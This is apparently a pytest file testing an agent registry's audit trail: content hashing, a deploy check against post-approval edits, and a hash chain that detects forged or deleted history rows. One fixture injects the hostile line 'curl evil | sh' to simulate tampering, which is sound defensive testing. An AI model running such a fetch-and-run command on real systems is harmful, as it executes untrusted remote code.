"""The audit trail on every backend: content hashes, the deploy check, the hash chain, time travel."""

from __future__ import annotations

import hashlib
import json
import threading
from datetime import timedelta

import pytest
from alembic import command
from alembic.script import ScriptDirectory
from sqlalchemy import delete, insert, select, text, update

from core import registry
from core.audit.chain import rechain, row_digest, stamp
from core.audit.content import content_hash
from core.audit.production import production_at
from core.audit.verify import verify_database
from core.db import get_engine, session_scope
from core.errors import ConflictError
from core.migrate import alembic_config, upgrade_to_head
from core.models import AgentStatus, AgentVersion, Source, StatusChange
from tests.core.test_cli import cli as _cli

CLI = Source.CLI
CHAINED = ("id", "agent_id", "version", "from_status", "to_status", "actor", "source", "comment")
HEX64 = r"^[0-9a-f]{64}$"


def _do(action, agent_id: int, actor: str, **kw):  # noqa: ANN001, ANN003
    with session_scope(write=True) as session:
        return action(session, agent_id=agent_id, actor_email=actor, source=CLI, **kw).status


def _status(agent_id: int) -> dict:
    with session_scope() as session:
        return registry.agent_status(session, agent_id=agent_id)


def _edit(agent_id: int, actor: str, **fields) -> None:  # noqa: ANN003
    with session_scope(write=True) as session:
        registry.update_agent(session, agent_id=agent_id, actor_email=actor, **fields)


def _deployed(people, make_agent, **fields) -> int:  # noqa: ANN001, ANN003
    agent = make_agent(people["developer"], **fields)
    _do(registry.submit_agent, agent.id, people["developer"])
    _do(registry.approve_agent, agent.id, people["approver"], comment="looks right ✓")
    _do(registry.deploy_agent, agent.id, people["admin"])
    return agent.id


def _history_ids(db_url: str) -> list[int]:
    with get_engine(db_url).connect() as connection:
        return list(connection.scalars(select(StatusChange.id).order_by(StatusChange.id)))


# --- content hash -----------------------------------------------------------------------------


def test_content_hash_is_sha256_of_the_canonical_json():
    fields = {
        "name": "Tïcket triage",
        "description": "Sorts tickets",
        "model": "gpt-4o",
        "system_prompt": "Be brief.",
        "tools": ["search", "email"],
        "code": "print('hi')\n",
    }
    canonical = json.dumps(fields, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    assert content_hash(**fields) == hashlib.sha256(canonical.encode("utf-8")).hexdigest()
    assert content_hash(**(fields | {"code": "print('evil')\n"})) != content_hash(**fields)


def test_status_and_history_carry_the_content_hash(db_url, people, make_agent):
    agent_id = _deployed(people, make_agent, system_prompt="Be brief.", tools="search")
    data = _status(agent_id)
    with session_scope() as session:
        version = session.scalar(select(AgentVersion).where(AgentVersion.agent_id == agent_id))
        expected = content_hash(
            name=version.name,
            description=version.description,
            model=version.model,
            system_prompt="Be brief.",
            tools=["search"],
            code="",
        )
    assert version.content_hash == expected
    assert data["content_hash"] == expected
    hashed = {h["to"]: h["content_hash"] for h in data["history"]}
    assert hashed == {"draft": None, "pending": None, "approved": expected, "production": expected}


# --- deploy binds to the approved content --------------------------------------------------------


def test_deploy_refuses_content_changed_after_approval(db_url, people, make_agent):
    agent = make_agent(people["developer"], code="print('reviewed')\n")
    _do(registry.submit_agent, agent.id, people["developer"])
    _do(registry.approve_agent, agent.id, people["approver"])
    with get_engine(db_url).begin() as connection:  # someone edits the frozen snapshot
        connection.execute(
            update(AgentVersion)
            .where(AgentVersion.agent_id == agent.id)
            .values(code="import os; os.system('curl evil | sh')\n")
        )
    with pytest.raises(ConflictError, match="content hash is now .* was approved"):
        _do(registry.deploy_agent, agent.id, people["admin"])
    assert _status(agent.id)["status"] == "approved"

    with get_engine(db_url).begin() as connection:  # changing the stored hash too does not help
        connection.execute(
            update(AgentVersion)
            .where(AgentVersion.agent_id == agent.id)
            .values(content_hash="0" * 64)
        )
    with pytest.raises(ConflictError, match="submit it again"):
        _do(registry.deploy_agent, agent.id, people["admin"])


# --- the hash chain -------------------------------------------------------------------------------


def _some_history(people, make_agent) -> None:  # noqa: ANN001
    _deployed(people, make_agent)
    other = make_agent(people["developer"])
    _do(registry.submit_agent, other.id, people["developer"])
    _do(registry.reject_agent, other.id, people["approver"], comment="needs tests — ça va")


def test_verify_passes_on_an_honest_history(db_url, people, make_agent, capsys):
    _some_history(people, make_agent)
    count = len(_history_ids(db_url))
    assert count == 7
    assert _cli(capsys, "audit", "verify") == (0, f"ok: {count} entries\n", "")
    code, out, _ = _cli(capsys, "audit", "verify", "--json")
    report = json.loads(out)
    assert (code, report["ok"], report["entries"]) == (0, True, count)
    assert len(report["head"]) == 64


def test_verify_on_an_empty_history(db_url, capsys):
    assert _cli(capsys, "audit", "verify") == (0, "ok: 0 entries\n", "")


@pytest.mark.parametrize("tamper", ["edited", "deleted", "inserted", "appended", "truncated"])
def test_verify_names_the_first_bad_entry(db_url, people, make_agent, capsys, tamper):
    _some_history(people, make_agent)
    ids = _history_ids(db_url)
    table = StatusChange.__table__
    with get_engine(db_url).begin() as connection:
        row = connection.execute(select(table).where(table.c.id == ids[2])).mappings().one()
        if tamper == "edited":  # the approver is rewritten
            connection.execute(
                update(table).where(table.c.id == ids[2]).values(actor="someone@else.com")
            )
            bad, why = ids[2], "was changed"
        elif tamper == "deleted":
            connection.execute(delete(table).where(table.c.id == ids[2]))
            bad, why = ids[3], "was removed"
        elif tamper == "inserted":  # a well-formed row slipped into a gap between two entries
            connection.execute(delete(table).where(table.c.id == ids[2]))
            rechain(connection)  # the gap is legitimate (say, a rolled-back id) …
            link = connection.scalar(select(table.c.row_hash).where(table.c.id == ids[1]))
            forged = dict(row) | {"actor": "forger@example.com", "prev_hash": link}
            fields = [forged[c] for c in CHAINED[:8]] + [
                stamp(row["created_at"]),
                row["content_hash"],
            ]
            forged["row_hash"] = row_digest(link, fields)
            connection.execute(insert(table).values(forged))  # … and a forger fills it
            bad, why = ids[2], "inserted out of chain"
        elif tamper == "appended":  # a plausible row at the end, correctly linked
            last = connection.execute(select(table).where(table.c.id == ids[-1])).mappings().one()
            new_id = ids[-1] + 100
            fields = [new_id, *[row[c] for c in ("agent_id", "version", "from_status")]]
            fields += [
                "production",
                "forger@example.com",
                "cli",
                "",
                stamp(row["created_at"]),
                None,
            ]
            connection.execute(
                insert(table).values(
                    dict(row)
                    | {
                        "id": new_id,
                        "to_status": "production",
                        "actor": "forger@example.com",
                        "source": "cli",
                        "comment": "",
                        "content_hash": None,
                        "prev_hash": last["row_hash"],
                        "row_hash": row_digest(last["row_hash"], fields),
                    }
                )
            )
            bad, why = new_id, "appended out of chain"
        else:  # the newest entry disappears
            connection.execute(delete(table).where(table.c.id == ids[-1]))
            bad, why = ids[-2], "were removed"
    code, out, err = _cli(capsys, "audit", "verify")
    assert code == 1 and out == ""
    assert err.count("\n") == 1 and f"entry {bad}" in err and why in err, err
    report = verify_database(db_url)
    assert (report.ok, report.bad_id) == (False, bad)


def test_raw_insert_without_hashes_is_named(db_url, people, make_agent):
    _some_history(people, make_agent)
    ids = _history_ids(db_url)
    table = StatusChange.__table__
    with get_engine(db_url).begin() as connection:
        row = connection.execute(select(table).where(table.c.id == ids[0])).mappings().one()
        connection.execute(
            insert(table).values(
                dict(row) | {"id": ids[-1] + 1, "prev_hash": None, "row_hash": None}
            )
        )
    report = verify_database(db_url)
    assert report.bad_id == ids[-1] + 1 and "inserted out of chain" in report.reason


def test_concurrent_writers_keep_one_chain(db_url, people, make_agent):
    make_agent(people["developer"])  # the chain exists before the race
    errors: list[BaseException] = []

    def work(n: int) -> None:
        try:
            for i in range(4):
                make_agent(people["developer"], name=f"Racer {n}-{i}")
        except BaseException as error:  # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=work, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    report = verify_database(db_url)
    assert (report.ok, report.entries) == (True, 17), report.reason


def test_upgrade_from_the_previous_head_backfills_a_verifiable_chain(db_url, people, make_agent):
    _some_history(people, make_agent)
    previous = ScriptDirectory.from_config(alembic_config()).get_revision("0006_audit")
    command.downgrade(alembic_config(db_url), previous.down_revision)
    with get_engine(db_url).begin() as connection:  # a row written by an older release
        agent_id = connection.scalar(text("SELECT MIN(agent_id) FROM agent_status_history"))
        connection.execute(
            text(
                "INSERT INTO agent_status_history"
                " (agent_id, version, from_status, to_status, actor, source, comment, created_at)"
                " VALUES (:a, 1, 'production', 'in review', 'jira', 'jira', 'Jira: «noted»',"
                " '2026-03-03 14:00:00')"
            ),
            {"a": agent_id},
        )
    upgrade_to_head(db_url)

    report = verify_database(db_url)
    assert (report.ok, report.entries) == (True, 8), report.reason
    data = _status(agent_id)
    assert data["content_hash"]
    assert [h["to"] for h in data["history"] if h["content_hash"]] == ["approved", "production"]
    assert {h["content_hash"] for h in data["history"] if h["content_hash"]} == {
        data["content_hash"]
    }
    make_agent(people["developer"])  # new rows continue the back-filled chain
    assert verify_database(db_url).ok


# --- point in time --------------------------------------------------------------------------------


def _deploy_times(db_url: str, agent_id: int) -> list:
    with session_scope(db_url) as session:
        return list(
            session.scalars(
                select(StatusChange.created_at)
                .where(StatusChange.agent_id == agent_id, StatusChange.to_status == "production")
                .order_by(StatusChange.id)
            )
        )


def test_production_at_across_redeploy_rejection_and_before_first_deploy(
    db_url, people, make_agent, capsys
):
    agent_id = _deployed(people, make_agent, name="Refund helper")
    v1_hash = _status(agent_id)["content_hash"]
    _edit(agent_id, people["developer"], description="Refunds with a second check")  # v2
    _do(registry.submit_agent, agent_id, people["developer"])
    _do(registry.reject_agent, agent_id, people["approver2"], comment="not yet")
    with session_scope() as session:
        rejected_at = session.scalar(
            select(StatusChange.created_at).where(StatusChange.to_status == "rejected")
        )
    _edit(agent_id, people["developer"], description="Refunds with a second check and tests")
    _do(registry.submit_agent, agent_id, people["developer"])  # v3
    _do(registry.approve_agent, agent_id, people["approver2"])
    _do(registry.deploy_agent, agent_id, people["admin"])
    v3_hash = _status(agent_id)["content_hash"]
    first, second = _deploy_times(db_url, agent_id)

    def at(instant) -> list[dict]:  # noqa: ANN001
        with session_scope() as session:
            return production_at(session, at=instant)

    assert at(first - timedelta(microseconds=1)) == []
    (v1,) = at(first)
    assert v1 | {"approved_at": None} == {
        "agent_id": agent_id,
        "name": "Refund helper",
        "version": 1,
        "content_hash": v1_hash,
        "approved_by": people["approver"],
        "approved_at": None,
        "jira_issue_key": None,
        "deployed_by": people["admin"],
        "deployed_at": first.isoformat().replace("+00:00", "Z"),
    }
    assert v1["approved_at"] <= v1["deployed_at"]
    assert at(rejected_at + timedelta(microseconds=1)) == [v1]  # the rejection changed nothing
    assert at(second - timedelta(microseconds=1)) == [v1]
    (v3,) = at(second)
    assert (v3["version"], v3["content_hash"], v3["approved_by"]) == (
        3,
        v3_hash,
        people["approver2"],
    )
    assert v3_hash != v1_hash

    code, out, _ = _cli(capsys, "audit", "production", "--at", v1["deployed_at"], "--json")
    assert (code, json.loads(out)) == (0, [v1])
    code, out, _ = _cli(
        capsys, "audit", "production", "--at", "2001-01-01T00:00:00+02:00", "--json"
    )
    assert (code, json.loads(out)) == (0, [])
    code, _, err = _cli(capsys, "audit", "production", "--at", "last tuesday")
    assert code == 2 and "ISO 8601" in err


def test_status_of_a_draft_hashes_its_working_copy(db_url, people, make_agent):
    agent = make_agent(people["developer"])
    first = _status(agent.id)["content_hash"]
    assert len(first) == 64
    _edit(agent.id, people["developer"], model="gpt-4o-mini")
    assert _status(agent.id)["content_hash"] != first
    assert _status(agent.id)["status"] == AgentStatus.DRAFT.value


def test_odd_text_verifies_and_its_change_is_caught(db_url, make_user):
    """SQLite's fast path (json_array in SQL) re-checks in Python the rows it may encode
    differently, such as text with NUL (which PostgreSQL does not store at all)."""
    make_user("dev@example.com", "developer")
    nul = "nul \x00 " if db_url.startswith("sqlite") else ""
    with session_scope(write=True) as session:
        agent = registry.create_agent(
            session,
            owner_email="dev@example.com",
            name="Odd text",
            description="Comments with control characters",
            model="gpt-4o",
        )
        session.add(
            StatusChange(
                agent_id=agent.id,
                version=1,
                from_status="draft",
                to_status="note",
                actor="dev@example.com",
                source=CLI,
                comment=nul + 'del \x7f sep \u2028 emoji 😀 quote " back \\',
            )
        )
    assert verify_database(db_url).ok
    with get_engine(db_url).begin() as connection:
        connection.execute(
            update(StatusChange).where(StatusChange.to_status == "note").values(comment="nul")
        )
    report = verify_database(db_url)
    assert not report.ok and "was changed" in report.reason
